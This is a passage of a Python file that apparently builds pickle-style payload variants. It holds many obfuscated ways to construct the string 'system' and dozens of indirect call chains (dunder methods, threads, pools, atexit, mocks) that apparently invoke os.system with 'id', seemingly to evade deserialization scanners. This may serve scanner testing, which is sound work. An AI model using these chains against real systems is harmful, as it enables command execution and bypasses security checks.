    "zip_longest": item(C(builtin("list"), it("chain.from_iterable", it("zip_longest", ["system"], [1, 2]))), 0),
    "zip_longest2": item(item(C(builtin("list"), it("zip_longest", [1], ["a", "system"])), 1), 1),
    "tee": C(builtin("next"), item(it("tee", ["system"]), 1)),
    "product": item(C(builtin("next"), it("product", ["system"], [1])), 0),
    "islice": joined(it("islice", "systemxx", 6)),
    "islice2": joined(it("islice", "xsystemx", 1, 7)),
    "islice3": joined(it("islice", "s-y-s-t-e-m", 0, None, 2)),
    "cycle": C(builtin("next"), it("cycle", ["system"])),
    "repeat2": joined(it("repeat", "system", 1)),
    "takewhile": joined(it("takewhile", attribute("system", "__contains__"), "system0x")),
    "filter_alpha": joined(C(builtin("filter"), builtin("str.isalpha"), "s1y2s3t4e5m")),
    "filter_none": joined(C(builtin("filter"), None, ["sys", "", "tem"])),
    "filterfalse": joined(it("filterfalse", builtin("str.isdigit"), "s1y2s3t4e5m")),
    "dropwhile": joined(it("dropwhile", builtin("str.isdigit"), "123system")),
    "max_more": C(builtin("max"), ["a", "system"]),
    "min": C(builtin("min"), ["zz", "system"]),
    "max2": C(builtin("max"), "a", "system"),
    "max_key": with_named(builtin("max"), (["a", "system"],), {"key": builtin("len")}),
    "sorted": item(C(builtin("sorted"), ["system", "a"]), 1),
    "sorted_rev": item(with_named(builtin("sorted"), (["a", "system"],), {"reverse": True}), 0),
    "sorted_key": joined(C(builtin("map"), C(ITEMGETTER, 1), with_named(builtin("sorted"), ([(2, "tem"), (1, "sys")],), {"key": C(ITEMGETTER, 0)}))),
    "sorted_tuples": joined(C(builtin("map"), C(ITEMGETTER, 1), C(builtin("sorted"), [(2, "tem"), (1, "sys")]))),
    "enumerate": item(item(C(builtin("list"), C(builtin("enumerate"), ["system"])), 0), 1),
    "list_insert": (lambda L: item(L, 0))(["system"]),
    "setitem": (lambda D: Do(op("setitem", D, "a", "system"), item(D, "a")))({}),
    "list_setitem": (lambda L: Do(op("setitem", L, 0, "system"), item(L, 0)))(["path"]),
    "insert": (lambda L: Do(method(L, "insert", 0, "system"), item(L, 0)))(["path"]),
    "append_m": (lambda L: Do(method(L, "append", "system"), item(L, -1)))(["path"]),
    "extend_m": (lambda L: Do(method(L, "extend", ["system"]), item(L, -1)))(["path"]),
    "reverse_m": (lambda L: Do(method(L, "reverse"), item(L, 0)))(["path", "system"]),
    "sort_m": (lambda L: Do(method(L, "sort"), item(L, 0)))(["zpath", "system"]),
    "pop_m": (lambda L: Do(method(L, "pop"), item(L, -1)))(["system", "path"]),
    "clear_m": (lambda L: Do(method(L, "clear"), method(L, "append", "system"), item(L, 0)))(["path"]),
    "remove_m": (lambda L: Do(method(L, "remove", "path"), item(L, 0)))(["path", "system"]),
    "iadd": (lambda L: Do(op("iadd", L, ["system"]), item(L, -1)))(["path"]),
    "update_m": (lambda D: Do(method(D, "update", {"a": "system"}), item(D, "a")))({"a": "path"}),
    "dict_pop": (lambda D: Do(method(D, "pop", "b"), method(D, "get", "b", "system")))({"b": "path"}),
    "popitem": item(method({"a": "system"}, "popitem"), 1),
    "setdefault2": (lambda D: Do(method(D, "setdefault", "a", "system"), item(D, "a")))({}),
    "deque_rot": (lambda L: Do(method(L, "rotate", 1), item(L, 0)))(C(G("collections", "deque"), ["path", "system"])),
    "deque_left": (lambda L: Do(method(L, "appendleft", "system"), item(L, 0)))(C(G("collections", "deque"), ["path"])),
    "bytearray_ext": (lambda B: Do(method(B, "extend", b"tem"), method(B, "decode")))(C(builtin("bytearray"), b"sys")),
    "bytearray_iadd": (lambda B: Do(op("iadd", B, b"tem"), method(B, "decode")))(C(builtin("bytearray"), b"sys")),
    "bytearray_imul": (lambda B: Do(op("imul", B, 1), op("iconcat", B, b"tem"), method(B, "decode")))(
        C(builtin("bytearray"), b"sys")),
    "bytearray_set": (lambda B: Do(op("setitem", B, 0, 115), method(B, "decode")))(C(builtin("bytearray"), b"Xystem")),
    "bytearray_rev": (lambda B: Do(method(B, "reverse"), method(B, "decode")))(C(builtin("bytearray"), b"metsys")),
    "zfill": method("ystem", "rjust", 6, "s"),
    "ljust": method("syste", "ljust", 6, "m"),
    "center": method(" system ", "strip"),
    "expandtabs": method("system", "expandtabs"),
    "rpartition": item(method("os.path.system", "rpartition", "."), 2),
    "rsplit": item(method("a.b.system", "rsplit", ".", 1), 1),
    "splitlines": item(method("os\nsystem", "splitlines"), 1),
    "split_max": item(method("os system", "split", None, 1), 1),
    "capital": method("SYSTEM", "lower"),
    "title": method(method("system", "title"), "lower"),
    "find": item("xxsystem", C(builtin("slice"), method("xxsystem", "find", "s"), None)),
    "index": item("xxsystem", C(builtin("slice"), method("xxsystem", "index", "s"), None)),
    "count_m": item(["a", "system"], method("xax", "count", "a")),
    "startswith": item(["a", "system"], method("xax", "startswith", "x")),
    "contains": item(["a", "system"], op("contains", "abc", "b")),
    "eq": item(["a", "system"], op("eq", 1, 1)),
    "lt": item(["a", "system"], op("lt", 1, 2)),
    "ne": item(["a", "system"], op("ne", 1, 2)),
    "not": item(["a", "system"], op("not_", 0)),
    "truth": item(["a", "system"], op("truth", "x")),
    "bool": item(["a", "system"], C(builtin("bool"), "x")),
    "isinstance": item(["a", "system"], C(builtin("isinstance"), "x", builtin("str"))),
    "is_": item(["a", "system"], op("is_", None, None)),
    "any": item(["a", "system"], C(builtin("any"), [0, 1])),
    "all": item(["a", "system"], C(builtin("all"), [1, 1])),
    "len2": item(["a", "system"], C(builtin("len"), "x")),
    "callable": item(["a", "system"], C(builtin("callable"), builtin("len"))),
    "hexfmt": method(C(builtin("bytes.fromhex"), "73797374656d"), "decode"),
    "rot_kw": with_named(G("codecs", "decode"), ("flfgrz",), {"encoding": "rot13"}),
    "b64_kw": method(with_named(G("base64", "b64decode"), (), {"s": "c3lzdGVt"}), "decode"),
    "str_kw": with_named(builtin("str"), (b"system",), {"encoding": "ascii"}),
    "str_kw2": with_named(builtin("str"), (), {"object": b"system", "encoding": "ascii"}),
    "decode_kw": with_named(attribute(b"system", "decode"), (), {"encoding": "ascii"}),
    "dict_kw": item(with_named(builtin("dict"), (), {"a": "system"}), "a"),
    "ns_kw": attribute(with_named(G("types", "SimpleNamespace"), (), {"a": "system"}), "a"),
    "argns_kw": attribute(with_named(G("argparse", "Namespace"), (), {"a": "system"}), "a"),
    "fn_name": method(attribute(G("operator", "add"), "__name__"), "replace", "add", "system"),
    "cls_name": method(attribute(builtin("str"), "__name__"), "replace", "str", "system"),
    "cls_name2": method(attribute(attribute("", "__class__"), "__name__"), "replace", "str", "system"),
    "userdict": item(C(G("collections", "UserDict"), {"a": "system"}), "a"),
    "od_pop": item(method(C(G("collections", "OrderedDict"), [("a", 1), ("system", 2)]), "popitem"), 0),
    "od_move": (lambda D: Do(method(D, "move_to_end", "path"), C(builtin("next"), C(builtin("iter"), D))))(C(G("collections", "OrderedDict"), [("path", 1), ("system", 2)])),
    "stringio": method(C(G("io", "StringIO"), "system"), "read"),
    "stringio_v": method(C(G("io", "StringIO"), "system"), "getvalue"),
    "bytesio": method(method(C(G("io", "BytesIO"), b"system"), "read"), "decode"),
    "stringio_line": method(method(C(G("io", "StringIO"), "system\nx"), "readline"), "strip"),
    "quopri": method(C(G("quopri", "decodestring"), "=73ystem"), "decode"),
    "memoryview": method(method(C(builtin("memoryview"), b"system"), "tobytes"), "decode"),
    "mv_slice": C(builtin("str"), item(C(builtin("memoryview"), b"systemxx"), C(builtin("slice"), 0, 6)), "ascii"),
    "int_real": chrplus(attribute(115, "real")),
    "ascii_b85": method(C(G("base64", "a85decode"), base64.a85encode(b"system").decode()), "decode"),
    "qp": method(C(G("binascii", "a2b_qp"), "=73ystem"), "decode"),
    "hexlify": method(C(G("binascii", "unhexlify"), C(G("binascii", "hexlify"), b"system")), "decode"),
    "b64_mod": method(C(G("codecs", "decode"), b"c3lzdGVt", "base64"), "decode"),
    "zlib_codec": method(C(G("codecs", "decode"), zlib.compress(b"system"), "zlib"), "decode"),
    "utf32": method("system".encode("utf-32-be"), "decode", "utf-32-be"),
    "reduce_lambda": C(G("functools", "reduce"), builtin("str.__add__"), ["sys", "tem"]),
    "starmap_chr": joined(it("starmap", builtin("chr"), [(115,), (121,), (115,), (116,), (101,), (109,)])),
    "listcomp": joined(C(builtin("list"), C(builtin("reversed"), C(builtin("list"), "metsys")))),
    "chainmap": item(C(G("collections", "ChainMap"), {}, {"a": "system"}), "a"),
    "chainmap_m": method(C(G("collections", "ChainMap"), {}, {"a": "system"}), "get", "a"),
    "mappingproxy": item(C(G("types", "MappingProxyType"), {"a": "system"}), "a"),
    "exc": item(attribute(C(builtin("Exception"), "system"), "args"), 0),
    "str_exc": C(builtin("str"), C(builtin("Exception"), "system")),
    "slice_attr": attribute(C(builtin("slice"), "system"), "stop"),
    "range_item": chrplus(item(C(builtin("range"), 200), 115)),
    "set_pop": method(C(builtin("set"), ["system"]), "pop"),
    "frozenset": C(builtin("next"), C(builtin("iter"), C(builtin("frozenset"), ["system"]))),
    "set_union": C(builtin("next"), C(builtin("iter"), method(C(builtin("set"), []), "union", ["system"]))),
    "set_diff": C(builtin("next"), C(builtin("iter"), op("sub", C(builtin("set"), ["system", "a"]), C(builtin("set"), ["a"])))),
    "dict_or": item(op("or_", {"a": "x"}, {"a": "system"}), "a"),
    "lmul": item(op("mul", ["system"], 2), 1),
    "tuple_cnt": item(["system", "b"], method((1, 1), "index", 1)),
    "dict_view": item(item(C(builtin("list"), method({"a": "system"}, "items")), 0), 1),
    "keys_and": C(builtin("next"), C(builtin("iter"), method({"system": 1}, "keys"))),
    "str_mul": item(op("mul", "system", 2), C(builtin("slice"), 6)),
})


def pattern(name, *args):
    return C(G("re", name), *args)


def named_pair(text):
    return item(text, 1)


NAMES.update({
    "re_sub": pattern("sub", "X", "", "sXyXstem"),
    "re_sub_class": pattern("sub", r"[^a-z]+", "", "sys-1-tem"),
    "re_sub_groups": pattern("sub", r"(?P<a>\w+)-(\w+)", r"\2\g<a>", "tem-sys"),
    "re_sub_ignorecase": pattern("sub", "x", "", "sysXtem", 0, 2),
    "re_sub_call": pattern("sub", "[A-Z]", C(METHODCALLER, "group"), "system"),
    "re_sub_bytes": method(pattern("sub", b"X", b"", b"sysXtem"), "decode"),
    "re_compiled": method(pattern("compile", r"\s"), "sub", "", "sys tem"),
    "re_findall": joined(pattern("findall", "[a-z]", "s1y2stem")),
    "re_findall_group": item(pattern("findall", r"os\.(\w+)", "os.system"), 0),
    "re_group": method(pattern("match", r"(os)\.(.*)", "os.system"), "group", 2),
    "re_group_named": item(pattern("search", r"<(?P<n>.+?)>", "<system><x>"), "n"),
    "re_lookbehind": method(pattern("search", r"(?<=os\.)\w+(?=\()", "os.system()"), "group"),
    "re_backreference": pattern("sub", r"(.)\1", r"\1", "ssysstem"),
    "re_split": named_pair(pattern("split", "[.,]", "os.system")),
    "re_expand": method(pattern("match", r"(\w+) (\w+)", "tem sys"), "expand", r"\2\1"),
    "re_finditer": joined(C(builtin("map"), C(METHODCALLER, "group"), pattern("finditer", "[a-z]{1,2}", "sy1st2em"))),
    "struct_pack": method(C(G("struct", "pack"), "6B", 115, 121, 115, 116, 101, 109), "decode"),
    "struct_unpack": method(item(C(G("struct", "unpack"), ">2x6s", b"xxsystem"), 0), "decode"),
    "struct_aligned": method(method(item(C(G("struct", "pack"), "bi", 1, 0x74737973), C(builtin("slice"), 4, 8)), "replace", b"syst", b"system"), "decode"),
    "array_bytes": method(method(C(G("array", "array"), "H", b"s\0y\0s\0t\0e\0m\0"), "tobytes"), "decode", "utf-16-le"),
    "json_list": named_pair(C(G("json", "loads"), '[1.5, "system"]')),
    "json_escapes": item(C(G("json", "loads"), '{"a": "\\u0073ystem"}'), "a"),
    "json_dumps": method(C(G("json", "dumps"), ["system"]), "strip", '[]"'),
    "literal_dict": item(C(G("ast", "literal_eval"), "{'a': 'sys' \"tem\", 2: (1,)}"), "a"),
    "literal_bytes": method(C(G("ast", "literal_eval"), r"b'\x73ystem'"), "decode"),
    "pure_path": attribute(C(G("pathlib", "PurePosixPath"), "/a", "system.py"), "stem"),
    "windows_path": attribute(C(G("pathlib", "PureWindowsPath"), "C:\\a\\system"), "name"),
    "path_divided": attribute(op("truediv", C(G("pathlib", "PurePath"), "a"), "system"), "name"),
    "nt_basename": C(G("ntpath", "basename"), "c:\\os\\system"),
    "normpath": C(G("posixpath", "normpath"), "./a/../system"),
    "float_round": chrplus(C(builtin("round"), C(builtin("float"), "114.7"))),
    "truediv": chrplus(C(builtin("int"), op("truediv", 230, 2))),
    "math_floor": chrplus(C(G("math", "floor"), C(builtin("float"), "1.155e2"))),
    "long_bytes": method(method(method(C(builtin("int"), (b"system" + b"x" * 12).hex(), 16), "to_bytes", 18, "big"), "rstrip", b"x"), "decode"),
    "spec_float": chrplus(C(builtin("int"), method("{:.0f}", "format", C(builtin("float"), "115")))),
    "spec_nested": method("{:.{}}", "format", "systemxx", 6),
    "percent_star": op("mod", "%.*s", (6, "systemxx")),
    "percent_hex": chrplus(C(builtin("int"), op("mod", "%#X", 115), 16)),
    "repr_list": method(C(builtin("repr"), ["system"]), "strip", "[]'"),
    "split_named": named_pair(with_named(attribute("os.system", "split"), (), {"sep": "."})),
    "split_blanks_max": method(item(method("a  system ", "split", None, 1), 1), "strip"),
    "replace_nothing": method(method("system", "replace", "", "-"), "replace", "-", ""),
    "tabs": method("system\t", "expandtabs", 0),
    "wide_lower": method(method("SYSTEM\u200b", "lower"), "strip", "\u200b"),
    "decode_ignore": method(b"\xffsystem", "decode", "ascii", "ignore"),
    "delete_bytes": method(method(b"sXysXtem", "translate", None, b"X"), "decode"),
    "hex_separated": method(C(builtin("bytes.fromhex"), method(method(b"system", "hex", " "), "upper")), "decode"),
    "range_find": item("..system", C(builtin("slice"), op("add", method("..system", "find", ".", 1), 1), None)),
})

BYTES_IO, STRING_IO = G("io", "BytesIO"), G("io", "StringIO")


def bytes_io(value):
    return C(BYTES_IO, value)


def after(made, *steps):
    """What the last of the steps gives, functions of what was made, done one after the other."""
    return Do(*(step(made) for step in steps))


def call(name, *args):
    return lambda made: method(made, name, *args)


def decoded(step):
    return lambda made: method(step(made), "decode")


def deflated(data):
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    return packer.compress(data) + packer.flush()


def archived(module, *names):
    """The bytes of a zip or tar of that module, of members that all hold "system"."""
    held = io.BytesIO()
    if module == "zip":
        with zipfile.ZipFile(held, "w") as archive:
            for number, name in enumerate(names):
                archive.writestr(name, "system" * 3, zipfile.ZIP_DEFLATED if number else zipfile.ZIP_STORED)
    else:
        with tarfile.open(fileobj=held, mode=module) as archive:
            for name in names:
                member = tarfile.TarInfo(name)
                member.size = 18
                archive.addfile(member, io.BytesIO(b"system" * 3))
    return held.getvalue()


ZIPPED = C(G("zipfile", "ZipFile"), bytes_io(archived("zip", "x", "system")))


def untarred(mode):
    return with_named(G("tarfile", "open"), (), {"fileobj": bytes_io(archived(mode, "x", "system"))})


NAMES.update({
    "zip_read": item(method(method(ZIPPED, "read", "x"), "decode"), C(builtin("slice"), 6)),
    "zip_open": method(method(method(ZIPPED, "open", "system"), "read", 6), "decode"),
    "zip_names": item(method(ZIPPED, "namelist"), 1),
    "zip_info": method(method(method(ZIPPED, "open", method(ZIPPED, "getinfo", "x")), "read", 6), "decode"),
    "zip_infos": attribute(item(method(ZIPPED, "infolist"), 1), "filename"),
    "tar_read": method(method(method(untarred("w"), "extractfile", "x"), "read", 6), "decode"),
    "tar_packed": method(method(method(untarred("w:gz"), "extractfile", "x"), "read", 6), "decode"),
    "tar_member": method(method((lambda made: method(made, "extractfile", item(method(made, "getmembers"), 0)))(untarred("w:xz")), "read", 6), "decode"),
    "tar_names": item(method(untarred("w:bz2"), "getnames"), 1),
    "io_read_n": after(bytes_io(b"xxsystem.."), call("read", 2), decoded(call("read", 6))),
    "io_seek": after(bytes_io(b"xxsystem"), call("seek", 2), decoded(call("read"))),
    "io_seek_end": after(bytes_io(b"xxsystem"), call("seek", -6, 2), decoded(call("read"))),
    "io_seek_on": after(bytes_io(b"xxxxsystem"), call("read", 2), call("seek", 2, 1), decoded(call("read"))),
    "io_tell": item(["a", "b", "system"], after(bytes_io(b"xxsystem"), call("read", 2), call("tell"))),
    "io_write": after(C(BYTES_IO), call("write", b"sys"), call("write", b"tem"), decoded(call("getvalue"))),
    "io_write_read": after(C(BYTES_IO), call("write", b"system"), call("seek", 0), decoded(call("read"))),
    "io_write_over": after(bytes_io(b"xxstem"), call("write", b"sy"), decoded(call("getvalue"))),
    "io_write_text": after(C(STRING_IO, "xxxxem"), call("write", "sys"), call("write", "t"), call("getvalue")),
    "io_written": item(["a", "b", "c", "system"], after(C(BYTES_IO), call("write", b"abc"))),
    "io_writelines": after(C(BYTES_IO), call("writelines", [b"sys", b"tem"]), decoded(call("getvalue"))),
    "io_truncate": after(bytes_io(b"systemxx"), call("truncate", 6), decoded(call("getvalue"))),
    "io_lines": method(item(method(C(STRING_IO, "x\nsystem\ny"), "readlines"), 1), "strip"),
    "io_line_twice": method(after(C(STRING_IO, "x\nsystem\n"), call("readline"), call("readline")), "strip"),
    "io_line_n": after(C(STRING_IO, "systemxx\n"), call("readline", 6)),
    "io_list": method(item(C(builtin("list"), C(STRING_IO, "x\nsystem\ny")), 1), "strip"),
    "io_next": method(after(bytes_io(b"x\nsystem"), lambda made: C(builtin("next"), made), decoded(call("__next__"))), "strip"),
    "io_join": joined(C(STRING_IO, "sys\ntem")).__class__(attribute("", "join"), C(builtin("map"), C(METHODCALLER, "strip"), C(STRING_IO, "sys\ntem"))),
    "io_into": (lambda into: Do(method(bytes_io(b"system"), "readinto", into), method(into, "decode")))(C(builtin("bytearray"), 6)),
    "io_built": method(method(B(C(BYTES_IO), (b"xxsystem", 2, None)), "read"), "decode"),
    "io_built_text": method(B(C(STRING_IO), ("xxsystem", "\n", 2, None)), "read"),
    "io_setstate": after(C(BYTES_IO), call("__setstate__", (b"system", 0, None)), decoded(call("read"))),
    "io_view": after(bytes_io(b"xystem"), lambda made: op("setitem", method(made, "getbuffer"), 0, 115), decoded(call("getvalue"))),
    "io_copy": after(bytes_io(b"system"), lambda made: method(C(G("copy", "copy"), made), "read"), decoded(call("read"))),
    "io_of_changed": (lambda held: (lambda made: Do(made, method(held, "clear"), method(method(made, "read"), "decode")))(
        bytes_io(held)))(C(builtin("bytearray"), b"system")),
    "io_named": method(method(with_named(BYTES_IO, (), {"initial_bytes": b"system"}), "read"), "decode"),
    "io_sentinel": method(method(b"", "join", C(builtin("iter"), C(PARTIAL, attribute(bytes_io(b"system"), "read"), 4), b"")), "decode"),
    "io_unbound": method(C(G("_io", "BytesIO.read"), bytes_io(b"system.."), 6), "decode"),
    "io_buffered": method(method(C(G("io", "BufferedReader"), bytes_io(b"system")), "read"), "decode"),
    "io_wrapped": method(C(G("io", "TextIOWrapper"), bytes_io(b"system\n"), "ascii"), "read", 6),
    "io_print": after(C(STRING_IO), lambda made: with_named(builtin("print"), ("sys", "tem"), {"file": made, "sep": "", "end": ""}),
                      call("getvalue")),
    "io_copied": after(C(BYTES_IO), lambda made: C(G("shutil", "copyfileobj"), bytes_io(b"system"), made), decoded(call("getvalue"))),
    "io_b64": after(C(BYTES_IO), lambda made: C(G("base64", "decode"), bytes_io(b"c3lzdGVt"), made), decoded(call("getvalue"))),
    "gzip_open": method(method(C(G("gzip", "open"), bytes_io(gzip.compress(b"system", mtime=0))), "read"), "decode"),
    "gzip_text": method(C(G("gzip", "open"), bytes_io(gzip.compress(b"system", mtime=0)), "rt"), "read"),
    "gzip_file": method(method(with_named(G("gzip", "GzipFile"), (), {"fileobj": bytes_io(gzip.compress(b"system", mtime=0))}), "readline"), "decode"),
    "bz2_open": method(method(C(G("bz2", "open"), bytes_io(bz2.compress(b"system"))), "read"), "decode"),
    "bz2_file": method(method(C(G("bz2", "BZ2File"), bytes_io(bz2.compress(b"system"))), "read"), "decode"),
    "lzma_open": method(method(C(G("lzma", "open"), bytes_io(lzma.compress(b"system"))), "read"), "decode"),
    "lzma_file": method(method(C(G("lzma", "LZMAFile"), bytes_io(lzma.compress(b"system"))), "read"), "decode"),
    "unpack_zlib": method(method(C(G("zlib", "decompressobj")), "decompress", zlib.compress(b"system")), "decode"),
    "unpack_raw": method(method(C(G("zlib", "decompressobj"), -15), "decompress", deflated(b"system")), "decode"),
    "unpack_parts": (lambda made: method(op("add", method(made, "decompress", zlib.compress(b"system")[:5]),
                                            method(made, "decompress", zlib.compress(b"system")[5:])), "decode"))(
                                                C(G("zlib", "decompressobj"))),
    "unpack_bz2": method(method(C(G("bz2", "BZ2Decompressor")), "decompress", bz2.compress(b"system")), "decode"),
    "unpack_lzma": method(method(C(G("lzma", "LZMADecompressor")), "decompress", lzma.compress(b"system")), "decode"),
})

CHAINS.update({
    "setattr_append": (lambda O: Do(C(builtin("setattr"), O, "append", S), P(O, "append", "id")))(C(G("types", "SimpleNamespace"))),
    "setattr_extend": (lambda O: Do(C(builtin("object.__setattr__"), O, "append", S), P(O, "appends", "id")))(C(G("types", "SimpleNamespace"))),
    "setattr_setstate": (lambda O: Do(C(builtin("setattr"), O, "__setstate__", S), B(O, "id")))(C(G("types", "SimpleNamespace"))),
    "argns_append": P(B(N(G("argparse", "Namespace")), {"append": S}), "append", "id"),
    "type_append": P(C(C(builtin("type"), "X", (), {"append": C(builtin("staticmethod"), S)})), "append", "id"),
    "type_append_newobj": P(N(C(builtin("type"), "X", (), {"append": C(builtin("staticmethod"), S)})), "append", "id"),
    "type_partial_append": P(C(C(builtin("type"), "X", (), {"append": C(PARTIAL, S)})), "append", "id"),
    "type_setstate": B(C(C(builtin("type"), "X", (), {"__setstate__": C(PARTIAL, S)})), "id"),
    "type_add": P(C(C(builtin("type"), "X", (), {"add": C(PARTIAL, S)})), "additems", "id"),
    "type_call": C(C(C(builtin("type"), "X", (), {"__call__": C(builtin("staticmethod"), S)})), "id"),
    "type_attr": C(attribute(C(C(builtin("type"), "X", (), {"f": C(builtin("staticmethod"), S)})), "f"), "id"),
    "type_cls_attr": C(attribute(C(builtin("type"), "X", (), {"f": S}), "f"), "id"),
    "type_new": C(attribute(C(builtin("type"), "X", (), {"f": S}), "f"), "id"),
    "type_len": C(builtin("len"), C(C(builtin("type"), "X", (), {"__len__": C(PARTIAL, S, "id")}))),
    "type_str": C(builtin("str"), C(C(builtin("type"), "X", (), {"__str__": C(PARTIAL, S, "id")}))),
    "type_repr": C(builtin("repr"), C(C(builtin("type"), "X", (), {"__repr__": C(PARTIAL, S, "id")}))),
    "type_iter": C(builtin("list"), C(C(builtin("type"), "X", (), {"__iter__": C(PARTIAL, S, "id")}))),
    "type_hash": {C(C(builtin("type"), "X", (), {"__hash__": C(PARTIAL, S, "id")})): 1},
    "type_getattr": attribute(C(C(builtin("type"), "X", (), {"__getattr__": C(PARTIAL, S)})), "id"),
    "type_getitem": item(C(C(builtin("type"), "X", (), {"__getitem__": C(PARTIAL, S)})), "id"),
    "type_class_getitem": item(C(builtin("type"), "X", (), {"__class_getitem__": C(PARTIAL, S)}), "id"),
    "type_missing": item(C(C(builtin("type"), "X", (builtin("dict"),), {"__missing__": C(PARTIAL, S)})), "id"),
    "type_enter": method(C(C(builtin("type"), "X", (), {"__enter__": C(PARTIAL, S, "id")})), "__enter__"),
    "type_add_op": op("add", C(C(builtin("type"), "X", (), {"__add__": C(PARTIAL, S)})), "id"),
    "type_bool": op("truth", C(C(builtin("type"), "X", (), {"__bool__": C(PARTIAL, S, "id")}))),
    "type_index": op("index", C(C(builtin("type"), "X", (), {"__index__": C(PARTIAL, S, "id")}))),
    "type_int": C(builtin("int"), C(C(builtin("type"), "X", (), {"__int__": C(PARTIAL, S, "id")}))),
    "type_bytes": C(builtin("bytes"), C(C(builtin("type"), "X", (), {"__bytes__": C(PARTIAL, S, "id")}))),
    "type_format": C(builtin("format"), C(C(builtin("type"), "X", (), {"__format__": C(PARTIAL, S)})), "id"),
    "type_eq": op("eq", C(C(builtin("type"), "X", (), {"__eq__": C(PARTIAL, S)})), "id"),
    "type_contains": op("contains", C(C(builtin("type"), "X", (), {"__contains__": C(PARTIAL, S)})), "id"),
    "type_reversed": C(builtin("reversed"), C(C(builtin("type"), "X", (), {"__reversed__": C(PARTIAL, S, "id")}))),
    "type_next": C(builtin("next"), C(C(builtin("type"), "X", (), {"__next__": C(PARTIAL, S, "id")}))),
    "type_init": C(C(builtin("type"), "X", (), {"__init__": C(PARTIAL, S)}), "id"),
    "type_del": Do(C(C(builtin("type"), "X", (), {"__del__": C(PARTIAL, S, "id")})), 1),
    "type_instancecheck": C(builtin("isinstance"), "id", C(C(builtin("type"), "X", (), {"__instancecheck__": C(PARTIAL, S)}))),
    "type_set_name": C(attribute(C(builtin("type"), "X", (), {"f": S}), "f"), "id"),
    "type_class_mro": C(attribute(C(builtin("type"), "X", (C(builtin("type"), "Y", (), {"f": S}),), {}), "f"), "id"),
    "type_cls_call": C(C(C(builtin("type"), "X", (C(builtin("type"), "Y", (), {"__call__": C(PARTIAL, S)}),), {})), "id"),
    "nt_sub": C(attribute(C(C(G("collections", "namedtuple"), "P", "f x"), S, 1), "f"), "id"),
    "nt_item": C(item(C(C(G("collections", "namedtuple"), "P", "f x"), S, 1), 0), "id"),
    "exitstack": (lambda O: Do(method(O, "callback", S, "id"), method(O, "close")))(C(G("contextlib", "ExitStack"))),
    "exitstack_unb": (lambda O: Do(C(G("contextlib", "ExitStack.callback"), O, S, "id"), C(G("contextlib", "ExitStack.close"), O)))(C(G("contextlib", "ExitStack"))),
    "submit": method(method(C(G("concurrent.futures", "ThreadPoolExecutor")), "submit", C(PARTIAL, S, "id")), "result"),
    "submit2": method(method(C(G("concurrent.futures.thread", "ThreadPoolExecutor")), "submit", S, "id"), "result"),
    "exec_map": C(builtin("list"), method(C(G("concurrent.futures", "ThreadPoolExecutor"), 1), "map", S, ["id"])),
    "thread": (lambda TEMPLATE: Do(method(TEMPLATE, "start"), method(TEMPLATE, "join")))(C(G("threading", "Thread"), None, S, None, ("id",))),
    "thread_kw": (lambda TEMPLATE: Do(method(TEMPLATE, "start"), method(TEMPLATE, "join")))(with_named(G("threading", "Thread"), (), {"target": S, "args": ("id",)})),
    "thread_run": method(with_named(G("threading", "Thread"), (), {"target": S, "args": ("id",)}), "run"),
    "timer": (lambda TEMPLATE: Do(method(TEMPLATE, "start"), method(TEMPLATE, "join")))(C(G("threading", "Timer"), 0, S, ("id",))),
    "pool_apply": method(C(G("multiprocessing.pool", "ThreadPool"), 1), "apply", S, ("id",)),
    "pool_map": method(C(G("multiprocessing.pool", "ThreadPool"), 1), "map", S, ["id"]),
    "pool_starmap": method(C(G("multiprocessing.pool", "ThreadPool"), 1), "starmap", S, [("id",)]),
    "pool_imap": C(builtin("list"), method(C(G("multiprocessing.pool", "ThreadPool"), 1), "imap", S, ["id"])),
    "pool_async": method(method(C(G("multiprocessing.pool", "ThreadPool"), 1), "apply_async", S, ("id",)), "get"),
    "pool_init": C(G("multiprocessing.pool", "ThreadPool"), 1, S, ("id",)),
    "dummy_process": (lambda TEMPLATE: Do(method(TEMPLATE, "start"), method(TEMPLATE, "join")))(C(G("multiprocessing.dummy", "Process"), None, S, None, ("id",))),
    "asyncio_run": C(G("asyncio", "run"), C(G("asyncio", "to_thread"), S, "id")),
    "loop_call_soon": (lambda L: Do(method(L, "call_soon", S, "id"), method(L, "call_soon", attribute(L, "stop")), method(L, "run_forever")))(C(G("asyncio", "new_event_loop"))),
    "sched": (lambda L: Do(method(L, "enter", 0, 1, S, ("id",)), method(L, "run")))(C(G("sched", "scheduler"))),
    "timeit": C(G("timeit", "timeit"), C(PARTIAL, S, "id"), "pass", G("time", "perf_counter"), 1),
    "timeit_timer": method(C(G("timeit", "Timer"), C(PARTIAL, S, "id")), "timeit", 1),
    "cprofile": method(C(G("cProfile", "Profile")), "runcall", S, "id"),
    "profile": method(C(G("profile", "Profile")), "runcall", S, "id"),
    "bdb": method(C(G("bdb", "Bdb")), "runcall", S, "id"),
    "trace": method(C(G("trace", "Trace")), "runfunc", S, "id"),
    "finalize": C(C(G("weakref", "finalize"), C(G("collections", "OrderedDict")), S, "id")),
    "atexit": Do(C(G("atexit", "register"), S, "id"), C(G("atexit", "_run_exitfuncs"))),
    "context": method(C(G("contextvars", "copy_context")), "run", S, "id"),
    "mock": C(with_named(G("unittest.mock", "Mock"), (), {"side_effect": S}), "id"),
    "magicmock": C(with_named(G("unittest.mock", "MagicMock"), (), {"side_effect": S}), "id"),
    "classmethod_get": C(attribute(C(builtin("classmethod"), S), "__func__"), "id"),
    "staticmethod_get": C(method(C(builtin("staticmethod"), S), "__get__", 1), "id"),
    "staticmethod_call": C(C(builtin("staticmethod"), S), "id"),
    "wrapped": C(attribute(C(G("functools", "lru_cache"), S), "__wrapped__"), "id"),
    "lru_size": C(C(C(G("functools", "lru_cache"), 3), S), "id"),
    "wraps": C(C(C(G("functools", "wraps"), builtin("len")), S), "id"),
    "methodtype_func": C(attribute(C(G("types", "MethodType"), S, 1), "__func__"), "id"),
    "partialmethod": C(attribute(C(G("functools", "partialmethod"), S), "func"), "id"),
    "groupby": C(builtin("list"), it("groupby", ["id"], S)),
    "accumulate": C(builtin("list"), it("accumulate", ["id", "x"], S)),
    "compress_map": C(builtin("list"), it("compress", C(builtin("map"), S, ["id"]), [1])),
    "tee_map": C(builtin("next"), item(it("tee", C(builtin("map"), S, ["id"])), 0)),
    "zip_longest_map": C(builtin("list"), it("zip_longest", C(builtin("map"), S, ["id"]))),
    "product_map": it("product", C(builtin("map"), S, ["id"])),
    "perm_map": it("permutations", C(builtin("map"), S, ["id"])),
    "comb_map": it("combinations", C(builtin("map"), S, ["id"]), 1),
